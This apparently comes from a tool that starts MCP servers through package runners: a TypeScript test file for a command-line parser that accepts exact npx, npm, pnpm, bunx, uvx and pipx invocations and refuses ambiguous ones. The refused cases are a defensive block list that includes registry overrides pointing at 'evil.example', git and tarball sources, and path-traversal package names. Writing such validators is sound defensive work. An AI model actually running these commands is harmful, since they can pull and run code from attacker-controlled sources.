// Words that start a server from a package are known exactly, or refused.
import { describe, expect, test } from 'vitest'

import { lockKeyOf, packageCallOf } from '../../src/packages/package-words.js'

const read = (line: string) => {
  const call = packageCallOf(line.split(' '))
  return call === undefined ? undefined : [lockKeyOf(call), call.program ?? null, ...call.args]
}

describe('words of package runners', () => {
  test.each([
    ['npx -y @scope/server .', ['npm:@scope/server', null, '.']],
    ['npx server@1.2.3 --port 1 -y', ['npm:server@1.2.3', null, '--port', '1', '-y']],
    ['/usr/local/bin/npx --yes server@^1 -- x', ['npm:server@^1', null, '--', 'x']],
    ['npx -y --package=@scope/server@2 tool a', ['npm:@scope/server@2', 'tool', 'a']],
    ['npx -p server tool', ['npm:server', 'tool']],
    ['npm exec -y -- server a', ['npm:server', null, 'a']],
    ['npm exec server -- --flag', ['npm:server', null, '--flag']],
    ['npm x --package server -- tool', ['npm:server', 'tool']],
    ['pnpm dlx server a', ['npm:server', null, 'a']],
    ['bunx server@latest', ['npm:server@latest', null]],
    [
      'uvx mcp-server-time --local-timezone Europe/Berlin',
      ['pypi:mcp-server-time', null, '--local-timezone', 'Europe/Berlin'],
    ],
    ['uvx Mcp_Server.time@0.6.2', ['pypi:mcp-server-time@0.6.2', null]],
    ['uvx --from mcp-server-time==0.6.2 other', ['pypi:mcp-server-time@0.6.2', 'other']],
    ['uv tool run server', ['pypi:server', null]],
    ['pipx run --spec server tool', ['pypi:server', 'tool']],
  ])('are understood: %s', (line, expected) => {
    expect(read(line)).toEqual(expected)
  })

  test.each(['node server.js', './npx -y server', 'npm start', 'uv run server', 'pnpm exec server', 'my-npx server'])(
    'are not seen in another command: %s',
    (line) => {
      expect(read(line)).toBeUndefined()
    },
  )

  test.each([
    'npx',
    'npx -y',
    'npx --registry=http://evil.example server',
    'npx -c server',
    'npx --call=server',
    'npx --no-install server',
    'npx --ignore-scripts=false server',
    'npx --userconfig=x server',
    'npx -p a -p b tool',
    'npx -p server ../tool',
    'npx ../x',
    'npx ./server',
    'npx /tmp/server',
    'npx user/repository',
    'npx github:user/repository',
    'npx git+ssh://git@example.org/x.git',
    'npx https://example.org/x.tgz',
    'npx file:../x',
    'npx server@file:../x',
    'npx server@npm:evil',
    'npx server@git+https://example.org/x',
    'npx server@../x',
    'npx server@-x',
    'npx server@',
    'npx @scope',
    'npx @scope/../../x',
    'npx .hidden',
    'npx -y -- --flag',
    'bunx --bun server',
    'uvx --with evil server',
    'uvx --index-url http://evil.example server',
    'uvx git+https://example.org/x',
    'uvx --from git+https://example.org/x server',
    'uvx server[extra]',
    'uvx ./server',
    'uvx -r',
    'pipx run --pip-args=x server',
  ])('are refused with the known ones: %s', (line) => {
    expect(() => read(line)).toThrow(
      expect.objectContaining({ code: 'mcp-package-unclear', fix: expect.stringMatching(/NAME/) as string }) as Error,
    )
  })
})
